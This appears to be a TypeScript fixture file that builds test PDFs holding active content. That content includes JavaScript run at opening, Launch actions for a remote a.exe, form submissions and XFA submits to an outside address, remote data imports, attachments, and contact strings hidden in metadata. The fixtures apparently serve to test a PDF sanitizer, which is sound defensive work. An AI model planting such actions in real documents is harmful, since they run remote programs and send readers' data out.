import { PDFDict, PDFDocument, PDFHexString, PDFName, type PDFObject, PDFString, StandardFonts } from "@cantoo/pdf-lib";
import { type ActingFile, address, caller, mailLink, reach, stays } from "./acting-file.ts";

type Draw = (document: PDFDocument) => void | Promise<void>;
const pdf = (kind: string, draw: Draw, withheld?: true): ActingFile => ({
  format: "pdf",
  kind,
  mime: "application/pdf",
  ...(withheld && { withheld }),
  bytes: async () => {
    const document = await PDFDocument.create();
    const font = await document.embedFont(StandardFonts.Helvetica);
    document.addPage([300, 200]).drawText(stays, { x: 20, y: 100, size: 12, font });
    await draw(document);
    return document.save({ useObjectStreams: false, updateFieldAppearances: false });
  },
});
const action = (document: PDFDocument, entries: Record<string, string | PDFString>) =>
  document.context.obj({ Type: "Action", ...entries });
const linkTo = (document: PDFDocument, entries: Record<string, string | PDFString>): void => {
  const remark = document.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 9, 9] });
  remark.set(PDFName.of("A"), action(document, entries));
  document.getPage(0).node.addAnnot(document.context.register(remark));
};
const remarkOf = (document: PDFDocument, kind: string, entries: Record<string, PDFObject>): void => {
  const remark = document.context.obj({ Type: "Annot", Subtype: kind, Rect: [0, 0, 9, 9] });
  for (const [key, value] of Object.entries(entries)) remark.set(PDFName.of(key), value);
  document.getPage(0).node.addAnnot(document.context.register(remark));
};
const outline = (document: PDFDocument, title: string, act?: PDFDict): void => {
  const { context, catalog } = document;
  const entry = context.obj({ Title: PDFHexString.fromText(title) });
  if (act) entry.set(PDFName.of("A"), act);
  const first = context.register(entry);
  catalog.set(
    PDFName.of("Outlines"),
    context.register(context.obj({ Type: "Outlines", First: first, Last: first, Count: 1 })),
  );
};

export const actingPdfs: readonly ActingFile[] = [
  pdf("script at opening", (document) => {
    document.catalog.set(
      PDFName.of("OpenAction"),
      action(document, { S: "JavaScript", JS: PDFString.of(`app.launchURL('${address}')`) }),
    );
  }),
  pdf("scripts by name", (document) => document.addJavaScript("a", `app.launchURL("${address}")`)),
  pdf("launch of a program", (document) => linkTo(document, { S: "Launch", F: PDFString.of(`//${caller}/a.exe`) })),
  pdf("another file, opened at a place", (document) =>
    linkTo(document, { S: "GoToR", F: PDFString.of(`//${caller}/a.pdf`) }),
  ),
  pdf("form that is sent", (document) => linkTo(document, { S: "SubmitForm", F: PDFString.of(address) })),
  pdf("act of a page", (document) => {
    document
      .getPage(0)
      .node.set(
        PDFName.of("AA"),
        document.context.obj({ O: action(document, { S: "URI", URI: PDFString.of(address) }) }),
      );
  }),
  pdf("form field", async (document) => {
    const answer = document.getForm().createTextField("name");
    answer.setText("typed value");
    answer.addToPage(document.getPage(0), { x: 20, y: 20, width: 100, height: 20 });
    answer.acroField.dict.set(
      PDFName.of("AA"),
      document.context.obj({ K: action(document, { S: "JavaScript", JS: PDFString.of(caller) }) }),
    );
  }),
  pdf("button that sends a form", (document) => {
    const button = document.getForm().createButton("send");
    button.addToPage("Send", document.getPage(0));
    const [widget] = button.acroField.getWidgets();
    widget?.dict.set(PDFName.of("A"), action(document, { S: "SubmitForm", F: PDFString.of(address) }));
    widget?.dict.set(
      PDFName.of("AA"),
      document.context.obj({
        U: action(document, { S: "JavaScript", JS: PDFString.of(`this.submitForm("${address}")`) }),
      }),
    );
  }),
  pdf("form of a program (XFA)", (document) => {
    document.getForm().createTextField("name").addToPage(document.getPage(0));
    document.catalog
      .lookup(PDFName.of("AcroForm"), PDFDict)
      .set(PDFName.of("XFA"), document.context.stream(`<submit target="${address}"/>`));
  }),
  pdf(
    "form that a program draws (XFA)",
    (document) => {
      document.catalog.set(PDFName.of("NeedsRendering"), document.context.obj(true));
      document.catalog.set(
        PDFName.of("AcroForm"),
        document.context.obj({ Fields: [], XFA: document.context.stream(`<submit target="${address}"/>`) }),
      );
    },
    true,
  ),
  pdf("import of data", (document) => linkTo(document, { S: "ImportData", F: PDFString.of(`//${caller}/a.fdf`) })),
  pdf("act after a link", (document) => {
    linkTo(document, { S: "URI", URI: PDFString.of("https://a.example") });
    const [remark] = document.getPage(0).node.Annots()?.asArray() ?? [];
    document.context
      .lookup(remark, PDFDict)
      .lookup(PDFName.of("A"), PDFDict)
      .set(PDFName.of("Next"), action(document, { S: "Launch", F: PDFString.of(`//${caller}/a.exe`) }));
  }),
  pdf("film", (document) => remarkOf(document, "RichMedia", { RichMediaContent: PDFString.of(address) })),
  pdf("entry of the outline that starts a program", (document) =>
    outline(document, "Chapter", action(document, { S: "Launch", F: PDFString.of(`//${caller}/a.exe`) })),
  ),
  pdf(
    "file at a remark",
    (document) => {
      const file = document.context.obj({
        Type: "Filespec",
        F: PDFString.of(caller),
        EF: { F: document.context.register(document.context.stream("a")) },
      });
      remarkOf(document, "FileAttachment", { FS: document.context.register(file) });
    },
    true,
  ),
  pdf("file inside", (document) => document.attach(Buffer.from("a"), `${caller}.odt`, {}), true),
  pdf("contact in the properties", (document) => {
    document.setAuthor(reach);
    document.setSubject(reach);
    document.catalog.set(
      PDFName.of("Metadata"),
      document.context.register(document.context.stream(`<x:xmpmeta>${reach}</x:xmpmeta>`)),
    );
  }),
  pdf("contact in a remark", (document) => {
    remarkOf(document, "Text", {
      Contents: PDFHexString.fromText(reach),
      Subj: PDFString.of(reach),
      NM: PDFString.of(reach),
    });
    remarkOf(document, "FreeText", {
      Contents: PDFString.of(reach),
      RC: PDFString.of(`<body>${reach}</body>`),
      AP: document.context.obj({
        N: document.context.register(
          document.context.stream(`BT (${reach}) Tj ET`, { Type: "XObject", Subtype: "Form", BBox: [0, 0, 9, 9] }),
        ),
      }),
    });
  }),
  pdf("contact in an entry of the outline", (document) => outline(document, reach)),
  pdf("contact in a description", (document) => {
    const figure = document.context.obj({
      Type: "StructElem",
      S: "Figure",
      Alt: PDFString.of(reach),
      ActualText: PDFHexString.fromText(reach),
      T: PDFString.of(reach),
    });
    document.catalog.set(
      PDFName.of("StructTreeRoot"),
      document.context.obj({ Type: "StructTreeRoot", K: [document.context.register(figure)] }),
    );
  }),
  pdf("contact in the name of a layer", (document) => {
    const layer = document.context.register(document.context.obj({ Type: "OCG", Name: PDFString.of(reach) }));
    document.catalog.set(PDFName.of("OCProperties"), document.context.obj({ OCGs: [layer], D: {} }));
  }),
  pdf("link to a mailbox", (document) => linkTo(document, { S: "URI", URI: PDFString.of(mailLink) })),
];
